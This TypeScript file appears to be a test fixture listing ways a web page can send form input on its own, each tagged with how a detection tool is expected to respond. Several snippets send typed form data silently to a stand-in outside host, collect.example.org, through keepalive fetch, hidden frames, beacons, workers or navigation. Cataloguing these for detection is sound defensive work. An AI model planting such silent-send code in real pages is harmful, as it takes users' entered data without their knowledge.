/**
 * A way in which a page sends what is filled into it, by itself. `stopped`: nothing of the report may leave, and the person is told
 * that the page was stopped. `told`: no script can stop it, so the person is told. `unseen`: no browser tells of it; the sentence
 * before the press is all there is. `left`: recognised, and not filled. `gone`: the page is another one afterwards.
 */
export type Way = {
  kind: string
  name: string
  end: 'stopped' | 'told' | 'unseen' | 'left' | 'gone'
  markup?: string
  script?: string
  /** It goes on by itself for as long as it may, so that it may send beside the person's own press. */
  isRestless?: boolean
}

const restless = [
  'again and again',
  'by looking at the fields again and again',
  'when the mark of a filled field appears',
]

/** In the page: `f` is the form, `a` the address, `s` the list, `u` the account, `n` the note, `b` the button. */
const on = (moment: string, what: string): string =>
  `for (const each of [a, s, u, n]) each.addEventListener('${moment}', function (event) { ${what} });`
/** Once, some time after the last change. */
const after = (wait: number, what: string): string =>
  `let timer; ${on('input', `clearTimeout(timer); timer = setTimeout(function () { ${what} }, ${wait})`)}`
const query = `'?' + new URLSearchParams(new FormData(f))`
const link = (attributes: string): string => `<a id="k" href="/elsewhere" ${attributes}>More</a>`

const submissions: Record<string, string> = {
  'submit() at each input': on('input', 'f.submit()'),
  'submit() at each change': on('change', 'f.submit()'),
  'submit() after 300 ms': after(300, 'f.submit()'),
  'submit() after 1,500 ms': after(1500, 'f.submit()'),
  'submit() after 2,800 ms': after(2800, 'f.submit()'),
  'requestSubmit() after 500 ms': after(500, 'f.requestSubmit()'),
  'requestSubmit() of the button': after(500, 'f.requestSubmit(b)'),
  'a click on the button': after(400, 'b.click()'),
  'the list submits, others not': 's.onchange = function () { s.form.submit() }',
  'in a frame of an animation': on('change', 'requestAnimationFrame(function () { f.submit() })'),
  'when the page is idle': on(
    'change',
    '(window.requestIdleCallback || setTimeout)(function () { f.submit() })',
  ),
  'in a microtask': on('input', 'Promise.resolve().then(function () { f.submit() })'),
  'by a message to itself': `onmessage = function () { f.submit() }; ${on('change', `postMessage('go', '*')`)}`,
  'by looking at the fields again and again': `setInterval(function () { if (a.value && n.value) f.submit() }, 50)`,
  'when the mark of a filled field appears': `new MutationObserver(function () { f.submit() }).observe(f, { subtree: true, attributes: true })`,
  'heard at the window': `addEventListener('change', function () { f.submit() }, true)`,
  'by the prototype’s own submit': after(200, 'HTMLFormElement.prototype.submit.call(f)'),
  'with the button’s own address': after(200, `b.formAction = '/sent?by=button'; f.requestSubmit(b)`),
  'by a copy of the form': after(
    200,
    'const copy = f.cloneNode(true); copy.hidden = true; document.body.append(copy); copy.submit()',
  ),
  'by another form, with what was copied': after(
    200,
    `const other = document.createElement('form'); other.action = '/sent'; other.innerHTML = '<input name=x>'; other.x.value = a.value + n.value; document.body.append(other); other.submit()`,
  ),
  'by a form in the address': after(200, `f.method = 'get'; f.submit()`),
  'again and again': `setInterval(function () { if (n.value) f.requestSubmit() }, 200)`,
  'by an animation that begins where something stands': `const sheet = new CSSStyleSheet(); sheet.replaceSync('@keyframes k {} input:valid:not(:placeholder-shown) { animation: k 1ms }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; a.placeholder = ' '; a.required = true; a.onanimationstart = function () { f.submit() }`,
}

const navigations: Record<string, string> = {
  location: on('change', `location = '/sent' + ${query}`),
  'location.href, later': after(300, `location.href = '/sent' + ${query}`),
  'location.assign': after(300, `location.assign('/sent' + ${query})`),
  'location.replace': after(300, `location.replace('/sent' + ${query})`),
  'location.search': after(300, `location.search = ${query}`),
  'another site': after(300, `location = 'https://collect.example.org/sent' + ${query}`),
  'navigation.navigate': after(300, `navigation.navigate('/sent' + ${query})`),
  'history.pushState': after(300, `history.pushState(null, '', ${query})`),
  'history.replaceState': after(300, `history.replaceState(null, '', ${query})`),
  'the hash': after(300, `location.hash = a.value`),
  'a reload, with a cookie': after(
    300,
    `document.cookie = 'a=' + encodeURIComponent(a.value) + ';max-age=1;path=/report'; location.reload()`,
  ),
  'a refresh': after(
    300,
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=/sent' + ${query}; document.head.append(m)`,
  ),
  'its own window by name': after(300, `window.open('/sent' + ${query}, '_self')`),
  'an address that is code': after(
    300,
    `location = 'javascript:void(location=' + JSON.stringify('/sent' + ${query}) + ')'`,
  ),
  'a frame that moves the page': after(
    300,
    `const i = document.createElement('iframe'); i.hidden = true; document.body.append(i); i.contentWindow.eval('parent.location = ' + JSON.stringify('/sent' + ${query}))`,
  ),
}

const replacements: Record<string, string> = {
  'another document, written in place': after(
    300,
    `const q = ${query}; document.open(); document.write('<p>' + '<script>location = "/sent' + q + '"</' + 'script>'); document.close()`,
  ),
}

const links: Record<string, string> = {
  'a link': after(300, `k.href = '/sent' + ${query}; k.click()`),
  'a link that pings': after(300, `k.href = '#more'; k.ping = '/sent' + ${query}; k.click()`),
  'a link that downloads': after(300, `k.href = '/sent' + ${query}; k.download = 'x'; k.click()`),
  'a link into a frame': after(300, `k.href = '/sent' + ${query}; k.target = 'q'; k.click()`),
}

const aimed: Record<string, string> = {
  'a form into a hidden frame': after(300, `f.target = 'q'; f.submit()`),
  'the same, in the address': after(300, `f.target = 'q'; f.method = 'get'; f.submit()`),
  'the same, to another site': after(
    300,
    `f.target = 'q'; f.action = 'https://collect.example.org/sent'; f.submit()`,
  ),
  'the same, by the button': after(300, `b.formTarget = 'q'; f.requestSubmit(b)`),
  'the same, by the page’s base': after(
    300,
    `const d = document.createElement('base'); d.target = 'q'; document.head.append(d); f.submit()`,
  ),
  'another form into a hidden frame': after(
    300,
    `const o = document.createElement('form'); o.action = '/sent'; o.target = 'q'; o.innerHTML = '<input name=x>'; o.x.value = a.value + n.value; document.body.append(o); o.submit()`,
  ),
}

const requests: Record<string, string> = {
  fetch: on('change', `fetch('/sent' + ${query})`),
  'fetch, later': after(900, `fetch('/sent', { method: 'post', body: new FormData(f) })`),
  'fetch that outlives the page': after(
    300,
    `fetch('https://collect.example.org/sent', { method: 'post', mode: 'no-cors', keepalive: true, body: a.value })`,
  ),
  XMLHttpRequest: after(
    300,
    `const x = new XMLHttpRequest(); x.open('post', '/sent'); x.send(new URLSearchParams(new FormData(f)))`,
  ),
  sendBeacon: after(300, `navigator.sendBeacon('/sent', a.value)`),
  'a picture': after(300, `new Image().src = '/sent' + ${query}`),
  'a script': after(
    300,
    `const c = document.createElement('script'); c.src = '/sent' + ${query}; document.head.append(c)`,
  ),
  'a style sheet': after(
    300,
    `const c = document.createElement('link'); c.rel = 'stylesheet'; c.href = '/sent' + ${query}; document.head.append(c)`,
  ),
  'a background': after(300, `document.body.style.backgroundImage = 'url("/sent' + ${query} + '")'`),
  'a frame': after(
    300,
    `const i = document.createElement('iframe'); i.src = '/sent' + ${query}; document.body.append(i)`,
  ),
  'a form in a frame of its own': after(
    300,
    `const i = document.createElement('iframe'); document.body.append(i); const o = i.contentDocument.createElement('form'); o.action = '/sent'; o.innerHTML = '<input name=x>'; o.x.value = a.value; i.contentDocument.body.append(o); o.submit()`,
  ),
  'an event source': after(300, `new EventSource('/sent' + ${query})`),
  'an object': after(
    300,
    `const o = document.createElement('object'); o.data = '/sent' + ${query}; document.body.append(o)`,
  ),
  'while it hides':
    on('change', `dispatchEvent(new Event('pagehide'))`) +
    `addEventListener('pagehide', function () { navigator.sendBeacon('/sent', a.value) })`,
}

const unseen: Record<string, string> = {
  'a worker': after(
    300,
    `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(location.origin + '/sent' + ${query}) + ')'])))`,
  ),
  'a web socket': after(300, `new WebSocket('wss://' + location.host + '/sent' + ${query})`),
}

const list = (kind: string, end: Way['end'], scripts: Record<string, string>, markup = ''): Way[] =>
  Object.entries(scripts).map(([name, script]) => ({
    kind,
    name,
    end,
    script,
    markup,
    isRestless: restless.includes(name),
  }))

const recognised: Record<string, string> = {
  'a list that submits':
    '<form><label>Web address (URL) <input type="url" onchange="this.form.submit()"></label></form>',
  'ASP.NET': `<div onchange="javascript:setTimeout('__doPostBack(1)', 0)"><label>Web address (URL) <input type="url"></label></div>`,
  htmx: '<label>Web address (URL) <input type="url" hx-post="/sent"></label>',
  'htmx around it':
    '<div hx-post="/sent" hx-trigger="change delay:1s"><label>Web address (URL) <input type="url"></label></div>',
  Livewire: '<label>Web address (URL) <input type="url" wire:model.live="address"></label>',
  Alpine:
    '<label>Web address (URL) <input type="url" @change="$post(1)" x-on:input.debounce="save()"></label>',
  Faces: `<label>Web address (URL) <input type="url" onchange="PrimeFaces.ab({s:'x'})"></label>`,
  Stimulus: '<label>Web address (URL) <input type="url" data-action="change->form#submit"></label>',
  Rails: '<label>Web address (URL) <input type="url" data-remote="true" data-url="/sent"></label>',
  LiveView: '<form phx-change="validate"><label>Web address (URL) <input type="url"></label></form>',
  Unpoly: '<form up-autosubmit><label>Web address (URL) <input type="url"></label></form>',
}

export const ways: readonly Way[] = [
  ...list('a form that submits itself', 'stopped', submissions),
  ...list('a page that goes elsewhere', 'stopped', navigations),
  ...list('a page that becomes another', 'gone', replacements),
  ...list(
    'a link that is pressed by script',
    'stopped',
    links,
    `${link('')}<iframe name="q" hidden></iframe>`,
  ),
  ...list('a form aimed at a frame', 'stopped', aimed, '<iframe name="q" hidden></iframe>'),
  ...list('a request in the background', 'told', requests),
  ...list('a request that no browser tells of', 'unseen', unseen),
  ...Object.entries(recognised).map(([name, markup]) => ({
    kind: 'markup that says so',
    name,
    end: 'left' as const,
    markup,
  })),
]
